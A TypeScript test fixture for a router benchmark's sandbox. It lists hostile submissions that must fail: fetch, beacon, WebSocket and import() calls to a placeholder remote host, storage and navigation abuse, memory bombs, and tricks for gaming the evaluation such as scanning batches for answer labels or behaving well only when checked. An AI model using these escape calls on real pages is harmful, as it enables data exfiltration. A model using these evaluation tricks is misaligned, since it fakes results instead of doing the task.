/**
 * What a hostile router may try. Each is the body of `predict`, run once through the page as any visitor's router is, and
 * must end in the sentence that stands beside it. `%REMOTE%` is a live server that counts whoever gets through.
 */
import { saidAttacks } from './attacks-said.ts'

export interface Attack {
  readonly name: string
  /** Body of an async predict(batch, ctx). */
  readonly code: string
  /** Lines before the default export. */
  readonly top?: string
  /** Body of fit(train, ctx), where there is one. */
  readonly fit?: string
  /** What the visitor reads; absent when the router runs on and simply got nothing. */
  readonly sentence?: RegExp
  readonly secondsPerCall?: number
  /** Other fields of the module, as a source text has them. */
  readonly fields?: string
}

const sealed = (name: string) => new RegExp(`line \\d+: ${name} is not available: a router runs sealed`)
const missing = (name: string) => new RegExp(`${name} is not defined`)

/** Getting out: none may reach the attacker's server, the site, or another frame. */
const network: readonly Attack[] = [
  { name: 'fetch of a stranger', code: "await fetch('%REMOTE%fetch')", sentence: sealed('fetch') },
  { name: 'fetch of the site itself', code: "await fetch('/index.html')", sentence: sealed('fetch') },
  {
    name: 'XMLHttpRequest',
    code: "new XMLHttpRequest().open('GET', '%REMOTE%xhr')",
    sentence: sealed('XMLHttpRequest'),
  },
  { name: 'WebSocket', code: "new WebSocket('%REMOTE%ws'.replace('http', 'ws'))", sentence: sealed('WebSocket') },
  { name: 'EventSource', code: "new EventSource('%REMOTE%sse')", sentence: sealed('EventSource') },
  { name: 'sendBeacon', code: "navigator.sendBeacon('%REMOTE%beacon', 'x')", sentence: sealed('navigator') },
  {
    name: 'WebRTC',
    code: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] })",
    sentence: sealed('RTCPeerConnection'),
  },
  { name: 'WebTransport', code: "new WebTransport('https://127.0.0.1:1/')", sentence: sealed('WebTransport') },
  {
    name: 'import() of an address',
    code: "await import('%REMOTE%module.js')",
    sentence: /TypeError: Failed to fetch dynamically imported module/,
  },
  {
    name: 'import() of a data: address',
    code: "await import('data:text/javascript,1')",
    sentence: /TypeError: Failed to fetch dynamically imported module/,
  },
  {
    name: 'static import of an address',
    top: "import '%REMOTE%static.js'",
    code: '',
    sentence: /loading the module: TypeError: Failed to fetch/,
  },
  { name: 'importScripts', code: "importScripts('%REMOTE%scripts.js')", sentence: sealed('importScripts') },
  { name: 'picture beacon', code: "new Image().src = '%REMOTE%image.png'", sentence: missing('Image') },
  { name: 'font beacon', code: "await new FontFace('x', 'url(%REMOTE%font)').load()", sentence: sealed('FontFace') },
  { name: 'style and prefetch beacons', code: "document.head.append('x')", sentence: sealed('document') },
  { name: 'eval', code: "(0, eval)('1')", sentence: /EvalError/ },
  { name: 'new Function', code: "new Function('return 1')()", sentence: /EvalError/ },
]

const places: readonly Attack[] = [
  { name: 'a worker inside', code: "new Worker('data:text/javascript,1')", sentence: sealed('Worker') },
  { name: 'a shared worker', code: "new SharedWorker('data:text/javascript,1')", sentence: sealed('SharedWorker') },
  { name: 'a frame inside', code: "document.createElement('iframe')", sentence: sealed('document') },
  { name: 'IndexedDB', code: "indexedDB.open('vl-routerbench')", sentence: sealed('indexedDB') },
  { name: 'caches', code: "await caches.open('x')", sentence: sealed('caches') },
  { name: 'localStorage', code: "localStorage.setItem('x', 1)", sentence: sealed('localStorage') },
  { name: 'cookies', code: "document.cookie = 'x=1'", sentence: sealed('document') },
  { name: 'the file system', code: 'await navigator.storage.getDirectory()', sentence: sealed('navigator') },
  { name: 'BroadcastChannel', code: "new BroadcastChannel('app')", sentence: sealed('BroadcastChannel') },
  { name: 'a service worker', code: "await navigator.serviceWorker.register('/x.js')", sentence: sealed('navigator') },
  { name: 'window.open', code: "open('%REMOTE%popup')", sentence: sealed('open') },
  { name: 'top navigation', code: "top.location = '%REMOTE%top'", sentence: missing('top') },
  { name: 'own navigation', code: "location.href = '%REMOTE%self'", sentence: sealed('location') },
  { name: 'the parent page', code: 'parent.document.title', sentence: missing('parent') },
  { name: 'a form', code: "document.createElement('form').submit()", sentence: sealed('document') },
]

const answer = 'return { choices: new Int32Array(batch.n) }'

/** Meddling with what comes back, or with what is to be learned. */
const tricks: readonly Attack[] = [
  { name: 'speaking to the page', code: "postMessage({ type: 'started' })", sentence: sealed('postMessage') },
  {
    name: 'catching the port to forge replies',
    top: "let caught; Object.defineProperty(MessageEvent.prototype, 'data', { get() { caught = this.target; return undefined } })",
    code: `if (!caught) throw new Error('no port was caught'); ${answer}`,
    sentence: /no port was caught/,
  },
  {
    name: 'catching the port to replay an answer',
    top: 'let caught; const send = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...words) { caught = [this, words]; return send.apply(this, words) }',
    code: `if (!caught) throw new Error('there is nothing to replay'); ${answer}`,
    sentence: /there is nothing to replay/,
  },
  {
    name: 'prototype pollution',
    code: `Object.prototype.polluted = 1; Array.prototype.polluted = 1; const result = { choices: new Int32Array(batch.n) }; result.__proto__ = { polluted: 2 }; return result`,
  },
  {
    name: 'an endless loop',
    code: 'for (;;) {}',
    sentence: /predict took longer than 1 s: the router was stopped/,
    secondsPerCall: 1,
  },
  {
    name: 'an endless chain of promises',
    code: 'for (;;) await null',
    sentence: /predict took longer than 1 s: the router was stopped/,
    secondsPerCall: 1,
  },
  {
    name: 'an answer that never comes',
    code: 'await new Promise(() => {})',
    sentence: /predict took longer than 1 s/,
    secondsPerCall: 1,
  },
  {
    name: 'a memory bomb',
    code: 'const hoard = []; for (;;) hoard.push(new Float64Array(1e7).slice())',
    sentence: /the router's arrays hold more than 2 GB: keep fewer arrays, or reuse them/,
    secondsPerCall: 240,
  },
  {
    name: 'a heap of objects without end',
    code: 'const hoard = []; for (;;) hoard.push(new Array(1000).fill(hoard.length))',
    sentence: /predict took longer than 6 s: the router was stopped|out of memory/,
    secondsPerCall: 6,
  },
  {
    name: 'one allocation of a terabyte',
    code: 'new ArrayBuffer(2 ** 40)',
    sentence: /RangeError: (Array buffer allocation failed|Invalid array buffer length)/,
  },
  {
    name: 'a huge answer',
    code: "return { scores: new Float32Array(3e7), kind: 'utility' }",
    sentence: /30000000 scores for 60 × 4/,
  },
  {
    name: 'arrays of the wrong type',
    code: "return { scores: new Float64Array(batch.n * batch.K), kind: 'utility' }",
    sentence: /scores is a Float64Array: return a Float32Array/,
  },
  {
    name: 'a function for an answer',
    code: "return { scores: () => 1, kind: 'utility' }",
    sentence: /scores is a function: return a Float32Array/,
  },
  {
    name: 'a detached buffer',
    code: "const scores = new Float32Array(batch.n * batch.K); structuredClone(scores, { transfer: [scores.buffer] }); return { scores, kind: 'utility' }",
    sentence: /0 scores for 60 × 4/,
  },
  { name: 'a clock of shared memory', code: 'new SharedArrayBuffer(8)', sentence: missing('SharedArrayBuffer') },
  {
    name: 'looking for the answers of the batch',
    code: `const found = []
const walk = (value, path, depth) => {
  if (typeof value !== 'object' || value === null || depth > 4 || ArrayBuffer.isView(value)) return
  for (let holder = value; holder && holder !== Object.prototype; holder = Object.getPrototypeOf(holder))
    for (const key of Reflect.ownKeys(holder)) {
      if (/quality|^cost|right|label/.test(String(key)) && holder[key] !== undefined) found.push(path + String(key))
      if (key !== 'constructor') walk(value[key], path + String(key) + '.', depth + 1)
    }
}
walk(batch, '', 0)
throw new Error('answers found: ' + (found.join() || 'none'))`,
    sentence: /answers found: none/,
  },
  {
    name: 'reading a later batch',
    fit: 'return { later: ctx.test ?? ctx.batch ?? train.test ?? globalThis.batch }',
    code: "throw new Error(ctx.state.later ? 'there it is' : 'no later batch')",
    sentence: /no later batch/,
  },
  {
    name: 'keeping what it saw from predict to the next fit',
    top: 'let kept = 0',
    fit: 'return kept',
    code: `kept = batch.n; return { scores: new Float32Array(batch.n * batch.K).fill(ctx.state), kind: 'utility' }`,
    sentence: /fitted twice on the same rows, row 0 scores 0 for model 0 once and 60/,
  },
  {
    name: 'being good while checked only',
    code: `return { scores: new Float32Array(batch.n * batch.K).fill(batch.n > 60 ? 1 : 0), kind: 'utility' }`,
    sentence: /alone instead of in a batch, row \d+ scores 1 for model 0 once and 0 the other time/,
  },
  {
    name: 'dataset names without leave',
    code: `if (!batch.dataset) throw new Error('no dataset names'); ${answer}`,
    sentence: /no dataset names/,
  },
  {
    name: 'an error outside of any call',
    code: `setTimeout(() => { throw new Error('late') }); await new Promise((go) => setTimeout(go, 200)); ${answer}`,
    sentence: /the router failed outside of any call: .*late/,
  },
  { name: 'ending its own worker', code: 'close()', sentence: sealed('close') },
  { name: 'markup in its sentence', code: "throw new Error('<img src=%REMOTE%markup>')", sentence: /<img src=/ },
]

export const attacks: readonly Attack[] = [...network, ...places, ...tricks, ...saidAttacks]

export function sourceOf({ code, top = '', fit, fields }: Attack, remote: string): string {
  const source = `${top}
export default {
  name: 'attack',
  ${fields === undefined ? '' : `${fields},`}
  ${fit === undefined ? '' : `fit(train, ctx) { ${fit} },`}
  async predict(batch, ctx) {
    ${code}
  },
}`
  return source.replaceAll('%REMOTE%', remote)
}

/** The same attempts on a bare worker of the frame, without our covers: expressions that must reject or give nothing. */
export const bare: readonly string[] = [
  "fetch('%REMOTE%bare-fetch')",
  "fetch('%REMOTE%bare-nocors', { mode: 'no-cors', keepalive: true })",
  "fetch('%SITE%index.html')",
  "fetch('data:text/plain,x')",
  "fetch(URL.createObjectURL(new Blob(['x'])))",
  "new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', '%REMOTE%bare-xhr'); x.onload = yes; x.onerror = no; x.send() })",
  "(() => { const x = new XMLHttpRequest(); x.open('GET', '%REMOTE%bare-sync', false); x.send() })()",
  "new Promise((yes, no) => { const s = new WebSocket('%REMOTE%bare-ws'.replace('http', 'ws')); s.onopen = yes; s.onerror = no })",
  "new Promise((yes, no) => { const s = new EventSource('%REMOTE%bare-sse'); s.onopen = yes; s.onerror = no })",
  "new WebTransport('https://127.0.0.1:1/').ready",
  "import('%REMOTE%bare-import.js')",
  "import('%SITE%assets/x.js')",
  "importScripts('%REMOTE%bare-scripts.js')",
  "new FontFace('x', 'url(%REMOTE%bare-font)').load()",
  "new Promise((yes, no) => { const w = new Worker('%REMOTE%bare-worker.js'); w.onmessage = yes; w.onerror = no })",
  "new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob([\"fetch('%REMOTE%bare-nested').then(() => postMessage(1), () => { throw 1 })\"]))); w.onmessage = yes; w.onerror = no; setTimeout(no, 1000, 'silent') })",
  "new Promise((yes, no) => { const r = indexedDB.open('vl-routerbench'); r.onsuccess = yes; r.onerror = no })",
  'indexedDB.databases()',
  "caches.open('x')",
  'navigator.storage.getDirectory()',
  "navigator.serviceWorker.register('%SITE%sw.js')",
  "cookieStore.set('x', '1')",
  "localStorage.setItem('x', '1')",
  "new Promise((yes, no) => { const c = new BroadcastChannel('app'); c.onmessage = yes; c.postMessage('hello'); setTimeout(no, 500, 'nobody heard') })",
  "(self.location = '%REMOTE%bare-navigation')",
  'new RTCPeerConnection()',
  "navigator.sendBeacon('%REMOTE%bare-beacon')",
  'parent.document',
  'top.document',
  "(0, eval)('1')",
  "new Function('return 1')()",
  'new SharedArrayBuffer(8)',
]
